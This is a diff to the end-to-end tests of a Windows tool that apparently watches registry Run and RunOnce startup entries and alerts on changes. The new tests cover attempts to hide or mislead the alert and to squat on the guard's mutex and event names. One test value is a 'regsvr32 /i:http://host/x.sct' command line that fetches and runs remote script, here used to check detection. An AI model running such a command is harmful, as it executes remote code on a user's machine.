@@ -2,7 +2,10 @@
 
 #include <gtest/gtest.h>
 
+#include <cwchar>
 #include <random>
+#include <string>
+#include <vector>
 
 #include "tests/e2e/Program.h"
 
@@ -22,8 +25,8 @@ class TRunKey {
                       &Key, nullptr);
   }
   ~TRunKey() { ::RegCloseKey(Key); }
-  void Set(const std::wstring& name, const std::wstring& data) {
-    ::RegSetValueExW(Key, name.c_str(), 0, REG_SZ, reinterpret_cast<const BYTE*>(data.c_str()),
+  void Set(const std::wstring& name, const std::wstring& data, DWORD type = REG_SZ) {
+    ::RegSetValueExW(Key, name.c_str(), 0, type, reinterpret_cast<const BYTE*>(data.c_str()),
                      static_cast<DWORD>((data.size() + 1) * sizeof(wchar_t)));
   }
   void SetDword(const std::wstring& name, DWORD value) {
@@ -36,17 +39,36 @@ class TRunKey {
   HKEY Key = nullptr;
 };
 
+// For messages: what the alert shows, in UTF-8.
+std::string Narrow(const std::wstring& text) {
+  std::string utf8(text.size() * 3 + 1, '\0');
+  utf8.resize(static_cast<std::size_t>(::WideCharToMultiByte(
+      CP_UTF8, 0, text.c_str(), static_cast<int>(text.size()), utf8.data(),
+      static_cast<int>(utf8.size()), nullptr, nullptr)));
+  return utf8;
+}
+
 // The alert's fields, found as a user sees them: the edits top to bottom.
 struct TAlert {
   explicit TAlert(HWND dialog) : Dialog(dialog) {}
   HWND Edit(int row) const {
     auto edits = ChildrenOfClass(Dialog, L"TEdit");
-    return edits.size() == 4 ? edits[static_cast<std::size_t>(row)] : nullptr;
+    return edits.size() >= 4 ? edits[static_cast<std::size_t>(row)] : nullptr;
   }
   std::wstring Hive() const { return TextOf(Edit(0)); }
   std::wstring Time() const { return TextOf(Edit(1)); }
   std::wstring Key() const { return TextOf(Edit(2)); }
   std::wstring Path() const { return TextOf(Edit(3)); }
+  // The picked change's whole data, shown where the path leaves some out.
+  HWND DataField() const {
+    auto edits = ChildrenOfClass(Dialog, L"TEdit");
+    return edits.size() >= 5 ? edits[4] : nullptr;
+  }
+  void Click(const std::wstring& caption) const {
+    for (HWND button : ChildrenOfClass(Dialog, L"TButton")) {
+      if (TextOf(button) == caption) ::PostMessageW(button, BM_CLICK, 0, 0);
+    }
+  }
   std::wstring Label() const {
     auto labels = ChildrenOfClass(Dialog, L"TsLabelFX");
     return labels.empty() ? L"" : TextOf(labels[0]);
@@ -69,12 +91,15 @@ class AlertTest : public ::testing::Test {
   TAlert Alert{Program.AlertWindow()};
 };
 
-TEST_F(AlertTest, StartsWithoutShowingAnyWindow) {
-  for (HWND window : TopLevelWindows(Program.Pid())) {
+TEST(AlertAtStart, StartsWithoutShowingAnyWindow) {
+  TProgram program(ProgramPath(), false);
+  ASSERT_NE(program.AlertWindow(), nullptr);
+  for (HWND window : TopLevelWindows(program.Pid())) {
     EXPECT_FALSE(::IsWindowVisible(window)) << ClassOf(window).c_str();
   }
-  EXPECT_EQ(Alert.Caption(), L"启动项检测");
-  EXPECT_EQ(Alert.Path(), L"");
+  TAlert alert(program.AlertWindow());
+  EXPECT_EQ(alert.Caption(), L"启动项检测");
+  EXPECT_EQ(alert.Path(), L"");
 }
 
 void CheckAddedChangedDeleted(TKeywarden& program, TAlert& alert, HKEY hive,
@@ -156,36 +181,109 @@ TEST_F(AlertTest, ReportsAddedChangedAndDeletedValuesOfBothHives) {
       ::Sleep(random() % 6);  // the gap between two writes
     }
     ASSERT_TRUE(WaitFor([&] { return Alert.Path() == path && Alert.Label() == name; }))
-        << "burst " << burst << " of " << writes << " writes";
+        << "burst " << burst << " of " << writes << " writes; shown: " << Narrow(Alert.Label())
+        << " " << Narrow(Alert.Path());
   }
   for (const std::wstring& name : written) run.Delete(name);
 
   CheckChineseNameAndPath(Alert);
 }
 
-TEST_F(AlertTest, OtherTypesAndSubkeyValuesRefreshOnlyTheTimeAndKey) {
+// What a program of the same user might write to hide its entry from the
+// alert or to mislead it.
+TEST_F(AlertTest, NothingAProgramWritesHidesAnEntryOrMisleadsTheAlert) {
   TRunKey run(HKEY_CURRENT_USER);
-  run.Set(L"KeywardenFirst", L"C:\\first.exe");
-  ASSERT_TRUE(WaitFor([&] { return Alert.Path() == L"C:\\first.exe"; }));
+  const std::wstring runKey = L"\\" + kRunKey;
+  // An expandable string starts with Windows like any other entry.
+  run.Set(L"KeywardenExpand", L"%SystemRoot%\\notepad.exe", REG_EXPAND_SZ);
+  ASSERT_TRUE(WaitFor([&] { return Alert.Path() == L"%SystemRoot%\\notepad.exe"; }));
+  EXPECT_EQ(Alert.Label(), L"KeywardenExpand");
+  run.Delete(L"KeywardenExpand");
 
-  SetTextOf(Alert.Edit(1), L"");
-  SetTextOf(Alert.Edit(2), L"");
-  run.SetDword(L"KeywardenNumber", 1);
-  ASSERT_TRUE(WaitFor([&] { return !Alert.Time().empty(); }));
-  EXPECT_EQ(Alert.Key(), L"\\" + kRunKey);
-  EXPECT_EQ(Alert.Path(), L"C:\\first.exe");
-  EXPECT_EQ(Alert.Label(), L"KeywardenFirst");
+  // A name of 300 characters.
+  const std::wstring longName(300, L'k');
+  run.Set(longName, L"C:\\long.exe");
+  ASSERT_TRUE(WaitFor([&] { return Alert.Path() == L"C:\\long.exe"; }));
+  EXPECT_EQ(Alert.Label(), longName);
+  run.Delete(longName);
 
-  SetTextOf(Alert.Edit(1), L"");
-  {
-    TRunKey sub(HKEY_CURRENT_USER, L"KeywardenSub");
-    sub.Set(L"Inner", L"C:\\inner.exe");
+  // An entry with a harmless value right behind it: the newest shows, and
+  // "<" brings back the entry, every field from it.
+  run.Set(L"KeywardenPair1Hidden", L"C:\\hidden.exe");
+  ::Sleep(1);
+  run.Set(L"KeywardenPair2Harmless", L"C:\\harmless.exe");
+  ASSERT_TRUE(WaitFor([&] { return Alert.Label() == L"KeywardenPair2Harmless"; }));
+  Alert.Click(L"<");
+  ASSERT_TRUE(WaitFor([&] { return Alert.Label() == L"KeywardenPair1Hidden"; }));
+  EXPECT_EQ(Alert.Path(), L"C:\\hidden.exe");
+  EXPECT_EQ(Alert.Key(), runKey);
+  run.Delete(L"KeywardenPair1Hidden");
+  run.Delete(L"KeywardenPair2Harmless");
+
+  // A command line shows whole beneath its program path.
+  const std::wstring command = L"regsvr32 /s /i:http://host/x.sct scrobj.dll";
+  run.Set(L"KeywardenCommand", command);
+  ASSERT_TRUE(WaitFor([&] { return Alert.Path() == L"regsvr32 "; }));
+  ASSERT_NE(Alert.DataField(), nullptr);
+  EXPECT_TRUE(::IsWindowVisible(Alert.DataField()));
+  EXPECT_EQ(TextOf(Alert.DataField()), command);
+  SaveScreenshot(ArtifactPath(L"alert-command-line.bmp"));
+  run.Delete(L"KeywardenCommand");
+
+  // A number written under Control Panel\Desktop wakes its monitor but is no
+  // entry: the fields stay on the Run entry, and "删除" deletes that entry
+  // and nothing under Desktop.
+  run.Set(L"Wallpaper", L"C:\\w.exe");
+  ASSERT_TRUE(WaitFor([&] { return Alert.Label() == L"Wallpaper"; }));
+  const DWORD one = 1;
+  ::RegSetKeyValueW(HKEY_CURRENT_USER, L"Control Panel\\Desktop", L"KeywardenNumber", REG_DWORD,
+                    &one, sizeof one);
+  EXPECT_FALSE(WaitFor([&] { return Alert.Key() != runKey; }, 300));
+  Alert.Click(L"删除");
+  HWND box = nullptr;
+  ASSERT_TRUE(WaitFor([&] {
+    for (HWND w : TopLevelWindows(Program.Pid(), L"#32770")) {
+      if (::IsWindowVisible(w)) box = w;
+    }
+    return box != nullptr;
+  }));
+  EXPECT_EQ(TextOf(::GetDlgItem(box, 0xFFFF)), L"删除：Wallpaper");
+  ::PostMessageW(::GetDlgItem(box, IDOK), BM_CLICK, 0, 0);
+  EXPECT_NE(::RegGetValueW(HKEY_CURRENT_USER, kRunKey.c_str(), L"Wallpaper", RRF_RT_ANY, nullptr,
+                           nullptr, nullptr),
+            ERROR_SUCCESS);
+  EXPECT_EQ(::RegGetValueW(HKEY_CURRENT_USER, L"Control Panel\\Desktop", L"KeywardenNumber",
+                           RRF_RT_ANY, nullptr, nullptr, nullptr),
+            ERROR_SUCCESS);
+  ::RegDeleteKeyValueW(HKEY_CURRENT_USER, L"Control Panel\\Desktop", L"KeywardenNumber");
+
+  // RunOnce made after the start, deleted, and made again: every value shows.
+  const std::wstring runOnce = L"Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce";
+  ::RegDeleteTreeW(HKEY_CURRENT_USER, runOnce.c_str());
+  ::RegDeleteKeyW(HKEY_CURRENT_USER, runOnce.c_str());
+  for (const wchar_t* path : {L"C:\\once.exe", L"C:\\again.exe"}) {
+    ::RegSetKeyValueW(HKEY_CURRENT_USER, runOnce.c_str(), L"KeywardenOnce", REG_SZ, path,
+                      static_cast<DWORD>((std::wcslen(path) + 1) * sizeof(wchar_t)));
+    ASSERT_TRUE(WaitFor([&] { return Alert.Path() == path && Alert.Caption() == kAddedTitle; }))
+        << path;
+    EXPECT_EQ(Alert.Key(), L"\\" + runOnce);
+    ::RegDeleteTreeW(HKEY_CURRENT_USER, runOnce.c_str());
+    ::RegDeleteKeyW(HKEY_CURRENT_USER, runOnce.c_str());
+    ASSERT_TRUE(WaitFor([&] { return Alert.Caption() == kDeletedTitle; })) << path;
+    EXPECT_EQ(Alert.Path(), path);
   }
-  ASSERT_TRUE(WaitFor([&] { return !Alert.Time().empty(); }));
-  EXPECT_EQ(Alert.Path(), L"C:\\first.exe");
-  ::RegDeleteTreeW(HKEY_CURRENT_USER, (kRunKey + L"\\KeywardenSub").c_str());
-  run.Delete(L"KeywardenNumber");
-  run.Delete(L"KeywardenFirst");
+
+  // A flood: the last value written is the one shown.
+  {
+    TRunKey flood(HKEY_CURRENT_USER);
+    for (int i = 0; i < 2000; ++i) {
+      flood.Set(L"KeywardenFlood" + std::to_wstring(10000 + i), L"C:\\flood\\" + std::to_wstring(i) + L".exe");
+    }
+    ASSERT_TRUE(WaitFor([&] { return Alert.Path() == L"C:\\flood\\1999.exe"; }, 30000))
+        << Narrow(Alert.Label()) << " " << Narrow(Alert.Path());
+    EXPECT_EQ(Alert.Label(), L"KeywardenFlood11999");
+    for (int i = 0; i < 2000; ++i) flood.Delete(L"KeywardenFlood" + std::to_wstring(10000 + i));
+  }
 }
 
 TEST_F(AlertTest, IsTopmostWithItsClientSizeAndComesBackWhereItWasMoved) {
@@ -230,6 +328,61 @@ TEST_F(AlertTest, AtTheSessionsEndItAgreesAndEnds) {
   EXPECT_EQ(answer, 1u);
   ASSERT_TRUE(::SendMessageTimeoutW(app, WM_ENDSESSION, TRUE, 0, SMTO_ABORTIFHUNG, 5000, &answer));
   EXPECT_TRUE(Program.WaitForExit());
+}
+
+// What another program of the user can take before the guard starts: the
+// name of the guard's lock (owned here), the names its stop and change
+// events once had, and a window of the class a running guard shows.
+class TSquatter {
+ public:
+  TSquatter() {
+    Hold(::CreateMutexW(nullptr, TRUE, L"Local\\KeywardenSessionGuard"));
+    Hold(::CreateMutexW(nullptr, TRUE, L"EventStopAll"));
+    for (int i = 1; i <= 14; ++i) {
+      const std::wstring name = L"RegMonitorChange" + std::to_wstring(i);
+      Hold(::CreateEventW(nullptr, FALSE, FALSE, name.c_str()));  // auto-reset: takes signals
+    }
+    WNDCLASSW wc{};
+    wc.lpfnWndProc = ::DefWindowProcW;
+    wc.hInstance = ::GetModuleHandleW(nullptr);
+    wc.lpszClassName = L"TForm1";
+    ::RegisterClassW(&wc);
+    Window = ::CreateWindowExW(0, L"TForm1", L"", WS_POPUP, 0, 0, 1, 1, nullptr, nullptr,
+                               wc.hInstance, nullptr);
+  }
+  ~TSquatter() {
+    ::DestroyWindow(Window);
+    ::UnregisterClassW(L"TForm1", ::GetModuleHandleW(nullptr));
+    for (HANDLE h : Handles) ::CloseHandle(h);
+  }
+
+ private:
+  void Hold(HANDLE h) {
+    if (h) Handles.push_back(h);
+  }
+  std::vector<HANDLE> Handles;
+  HWND Window = nullptr;
+};
+
+TEST(GuardStartTest, TakenNamesNeitherStopNorSilenceItAndOfTwoStartedAtOnceOneRuns) {
+  TSquatter squatter;
+  TProgram first{TKeywarden::TNoWait{}}, second{TKeywarden::TNoWait{}};
+  // One gives way to the other, which runs; each ends cleanly (checked at the end).
+  ASSERT_TRUE(WaitFor([&] { return first.Running() != second.Running(); }, 30000));
+  TKeywarden& running = first.Running() ? first : second;
+  ASSERT_TRUE(WaitFor([&] { return running.AlertWindow() != nullptr; }));
+  TAlert alert(running.AlertWindow());
+  // Written again and again: the monitors may still be taking their first look.
+  TRunKey run(HKEY_CURRENT_USER);
+  int polls = 0;
+  EXPECT_TRUE(WaitFor(
+      [&] {
+        if (polls++ % 20 == 0) run.Set(L"KeywardenSquatted", L"C:\\" + std::to_wstring(polls));
+        return alert.Label() == L"KeywardenSquatted";
+      },
+      20000));
+  EXPECT_TRUE(first.Running() != second.Running());
+  run.Delete(L"KeywardenSquatted");
 }
 
 }  // namespace
